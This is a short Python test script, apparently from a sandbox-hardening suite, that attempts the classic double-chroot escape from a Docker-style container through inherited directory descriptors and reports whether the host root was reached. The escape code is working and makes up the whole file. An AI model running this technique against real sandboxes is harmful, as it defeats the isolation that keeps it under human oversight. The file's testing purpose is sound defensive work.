"""Attack: leave the root directory by a second chroot
Source: chroot(2), "Notes"
Profiles: basic docker
Weakening: descriptor
"""

import os
from pathlib import Path

from probe import FACTS, held, worked

starts = ["."]
for entry in Path("/proc/self/fd").iterdir():
    if entry.is_dir():
        starts.append(str(entry))
Path("/root/jail").mkdir(exist_ok=True)
for start in starts:
    if os.fork() == 0:
        try:
            os.chdir(start)
            os.chroot("/root/jail")
            for _ in range(30):
                os.chdir("..")
            os.chroot(".")
        except OSError:
            os._exit(0)
        os._exit(1 if Path(FACTS["state"]).is_dir() else 0)
    if os.waitstatus_to_exitcode(os.wait()[1]):
        worked(f"the host's root was reached from {start}")
held("every way up ends at this sandbox's own root")
